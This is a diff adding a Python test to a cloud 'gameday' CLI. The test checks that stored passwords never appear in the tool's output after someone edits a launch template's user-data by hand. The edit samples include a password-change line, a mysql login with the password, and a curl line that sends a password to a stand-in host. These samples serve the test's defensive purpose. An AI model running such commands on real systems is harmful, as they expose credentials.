@@ -1,6 +1,8 @@
 """Each source of words from outside by itself: the boot beacon, an alarm, a teammate's lease, a snapshot, names, the
 service, refusals, the stack file, the command line."""
 
+import base64
+import gzip
 import json
 import threading
 import time
@@ -227,3 +229,47 @@ def test_logs_draw_nothing(world):
     screen = world.screen("logs", "--since", "1h").harmless()
     assert "HERE" in screen.text
     of_json(world.gameday("logs", "--since", "1h", "-o", "json"))
+
+
+# Passwords in what somebody edited by hand.
+
+
+def test_no_hand_edit_of_user_data_shows_a_password(world, folder):
+    file = folder / "plain.toml"
+    file.write_text(STACK.replace('"billing"', '"plain"') + '[iam]\nmode = "off"\n')
+    args = ["-c", str(file)]
+    world.gameday("up", "--yes", *args, code=(0, 1))
+    found = world.ssm.get_parameters_by_path(Path="/gameday/plain", Recursive=True, WithDecryption=True)["Parameters"]
+    passwords = [p["Value"] for p in found if p["Type"] == "SecureString"]
+    templates = world.ec2.describe_launch_templates()["LaunchTemplates"]
+    template = next(t["LaunchTemplateId"] for t in templates if "plain" in t["LaunchTemplateName"])
+    version = world.ec2.describe_launch_template_versions(LaunchTemplateId=template, Versions=["$Default"])
+    data = version["LaunchTemplateVersions"][0]["LaunchTemplateData"]
+    raw = base64.b64decode(data["UserData"])
+    script = (gzip.decompress(raw) if raw[:2] == b"\x1f\x8b" else raw).decode()
+    used = [p for p in passwords if p in script]
+    assert used, "without a profile the passwords are in the script"
+    put = "put /opt/gameday/secrets/"
+    encoded = base64.b64encode(f"x{used[0]}\n".encode()).decode()
+    for edit in (
+        script.replace(put, f" {put}"),
+        script.replace(put, f"\t{put.replace(' ', '  ')}"),
+        script.replace(put, "install_secret /opt/gameday/secrets/"),
+        f"{script}\n# {used[0]}\necho {used[0]} | chpasswd\nmysql -p{used[0]} plain\n",
+        f"{script}\necho {encoded} | base64 -d\ncurl http://x/?q={used[0]}\n",
+        "\n".join(f"#{line}" for line in script.splitlines()),
+    ):
+        made = world.ec2.create_launch_template_version(
+            LaunchTemplateId=template,
+            SourceVersion="$Default",
+            VersionDescription="gameday by hand",
+            LaunchTemplateData={"UserData": base64.b64encode(gzip.compress(edit.encode())).decode()},
+        )["LaunchTemplateVersion"]["VersionNumber"]
+        world.ec2.modify_launch_template(LaunchTemplateId=template, DefaultVersion=str(made))
+        for verb in (["plan"], ["plan", "-v"], ["plan", "-o", "json"], ["up", "-o", "json"], ["status", "-v"]):
+            run = world.gameday(*verb, *args)
+            said = (run.stdout + run.stderr).decode()
+            for password in (*passwords, encoded.rstrip("=")[2:-4]):
+                assert password not in said, f"{verb}: a password after\n{edit[-300:]}"
+    said = world.gameday("plan", *args).stdout.decode()
+    assert "user_data" in said, said
